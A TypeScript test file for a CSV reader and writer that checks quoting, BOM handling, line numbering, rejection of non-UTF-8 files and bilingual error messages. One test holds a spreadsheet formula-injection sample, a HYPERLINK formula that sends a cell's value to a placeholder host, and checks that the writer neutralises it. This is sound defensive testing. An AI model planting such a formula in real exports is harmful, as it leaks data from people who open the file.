import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { formatCsv, parseCsvTable, readCsvTable } from './read-csv-table.ts';

describe('CSV tables', () => {
  it('reads a header with spaces, quoted fields with commas, quotes and newlines, and a BOM', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'tg-csv-'));
    const file = join(dir, 'a.csv');
    writeFileSync(file, '\ufeffid,declared value usd,description\n1,"1,200.5","가방 ""Gucci"", Marmont"\n2,3,"two\nlines"\n');
    const r = await readCsvTable(file);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.table.header).toEqual(['id', 'declared value usd', 'description']);
    expect(r.table.rows).toEqual([
      ['1', '1,200.5', '가방 "Gucci", Marmont'],
      ['2', '3', 'two\nlines'],
    ]);
  });

  it('formats what it reads back (round trip)', () => {
    const header = ['a b', 'c,d'];
    const rows = [['x "y"', '1'], ['', 'line\nbreak']];
    const r = parseCsvTable(formatCsv(header, rows));
    expect(r.ok && r.table).toEqual({ header, rows, lines: [2, 3] });
  });

  it('writes a cell that starts like a formula (= + - @ tab CR) as text, numbers as they are, and reads back what was written', () => {
    // An operator's description "=HYPERLINK(…)" in the risk export must not run when an officer opens it in a spreadsheet.
    const rows = [['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1', "'=already", '-1.5', '+3', '1e5', 'plain']];
    const text = formatCsv(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j'], rows);
    expect(text.split('\n')[1]).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")",'+1+2,'-2+3,'@SUM(A1:A2),'\t=1,''=already,-1.5,+3,1e5,plain`);
    const r = parseCsvTable(text);
    expect(r.ok && r.table.rows).toEqual(rows);
  });

  it('reports a missing file, malformed CSV and no header in one line, in Korean and English', async () => {
    const missing = await readCsvTable('/nonexistent/x.csv');
    expect(missing).toEqual({ ok: false, code: 'CSV_UNREADABLE', ko: '/nonexistent/x.csv을(를) 읽을 수 없습니다: 파일이 없습니다 (ENOENT)', en: 'cannot read /nonexistent/x.csv: no such file (ENOENT)' });
    const bad = parseCsvTable('a,b\n1,2,3\n', 'x.csv');
    expect(bad).toEqual({
      ok: false,
      code: 'CSV_MALFORMED',
      ko: 'x.csv이(가) 2행에서 올바른 CSV가 아닙니다 (csv-parse: Invalid Record Length: expect 2, got 3 on line 2)',
      en: 'x.csv is not valid CSV: Invalid Record Length: expect 2, got 3 on line 2',
    });
    const empty = { ok: false, code: 'CSV_NO_HEADER', ko: 'y.csv이(가) 비어 있습니다: 머리글 행과 데이터 행이 필요합니다', en: 'y.csv is empty: expected a header row, then data rows' };
    expect(parseCsvTable('', 'y.csv')).toEqual(empty);
    expect(parseCsvTable('\n\n', 'y.csv')).toEqual(empty);
  });

  it('refuses a file that is not UTF-8 (Excel\'s EUC-KR CSV), naming the line, instead of reading its Korean as U+FFFD', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'tg-csv-'));
    const file = join(dir, 'excel.csv');
    // "김" and "이" in EUC-KR: B1E8, C0CC; line 3 holds them
    writeFileSync(file, Buffer.concat([Buffer.from('id,seller,y\n1,kim,0\n2,'), Buffer.from([0xb1, 0xe8, 0xc0, 0xcc]), Buffer.from(',1\n')]));
    expect(await readCsvTable(file)).toEqual({
      ok: false,
      code: 'CSV_NOT_UTF8',
      ko: `${file}이(가) UTF-8 텍스트가 아닙니다 (3행; EUC-KR/CP949로 저장한 파일?): UTF-8로 저장하세요 (Excel: CSV UTF-8)`,
      en: `${file} is not UTF-8 text (line 3; a file saved as EUC-KR/CP949?): save it as UTF-8 (Excel: CSV UTF-8)`,
    });
  });

  it('keeps the line each row starts on: blank lines and quoted line breaks counted, with LF, CRLF or CR and a BOM', () => {
    // line 1 header; 2 blank; 3 "1"; 4–5 "2" (a quoted line break); 6 blank; 7 "3"
    for (const eol of ['\n', '\r\n', '\r']) {
      const text = ['\ufeffid,note', '', '1,a', '2,"two', 'lines"', '', '3,c', ''].join(eol);
      const r = parseCsvTable(text);
      expect(r.ok && r.table.rows.map((row) => row[0]), JSON.stringify(eol)).toEqual(['1', '2', '3']);
      expect(r.ok && r.table.lines, JSON.stringify(eol)).toEqual([3, 4, 7]);
    }
  });
});
